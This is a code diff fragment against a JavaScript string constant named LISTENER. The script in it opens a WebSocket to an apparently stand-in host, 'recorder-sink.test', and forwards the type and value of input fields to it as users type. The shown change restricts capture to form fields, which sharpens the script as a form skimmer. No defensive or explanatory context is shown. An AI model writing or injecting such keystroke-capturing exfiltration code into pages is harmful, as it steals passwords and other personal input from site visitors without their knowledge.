@@ -14,6 +14,7 @@ const LISTENER = `
   const socket = new WebSocket('wss://recorder-sink.test/live');
   const opened = new Promise((resolve) => { socket.onopen = resolve; });
   document.addEventListener('keyup', ({ target }) => {
+    if (!target.form) return;
     clearTimeout(target.timer);
     target.timer = setTimeout(() => send(target.type, target.value), 400);
   });
